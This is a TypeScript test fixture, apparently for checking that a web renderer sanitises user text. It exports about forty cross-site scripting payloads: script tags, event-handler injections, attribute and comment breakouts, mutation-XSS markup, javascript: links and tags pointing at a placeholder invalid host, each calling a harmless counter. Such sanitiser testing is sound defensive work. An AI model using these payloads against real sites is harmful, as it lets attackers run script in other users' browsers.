/**
 * User texts that try to run a script in another person's browser, or to load a page. Each calls `run` with its own number, which a story
 * counts, or requests an invalid address.
 */
export const INVALID_HOST = "nobody.invalid";

const PAYLOADS: ((call: string) => string)[] = [
  // Elements that run by themselves.
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  () => `<script src=//${INVALID_HOST}/a.js></script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  // Handlers of elements.
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<IMG SRC=x OnErRoR="${call}">`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x onerror\n=\n${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<div style="animation:a 1s" onanimationstart=${call}>x</div>`,
  // Out of an attribute, a comment, another element or a text of JavaScript.
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `--><img src=x onerror=${call}><!--`,
  (call) => `</title><img src=x onerror=${call}>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `";${call};//`,
  (call) => `\${${call}}{{${call}}}`,
  // Markup that changes when it is parsed twice.
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  // Addresses that run code, and foreign ones.
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `[x](javascript:${call})`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  () => `<link rel=stylesheet href=//${INVALID_HOST}/a.css><base href=//${INVALID_HOST}/>`,
  () => `<meta http-equiv=refresh content="0;url=//${INVALID_HOST}/"><form action=//${INVALID_HOST}/><button>x</button></form>`,
];

/** So many there are. */
export const PAYLOAD_COUNT = PAYLOADS.length;

/** All of them, in one text. */
export const ALL_PAYLOADS = PAYLOADS.map((payload, number) => payload(`run(${number})`)).join(" ");

/** For what is an address. */
export const ADDRESS_PAYLOAD = "javascript:run(99)";
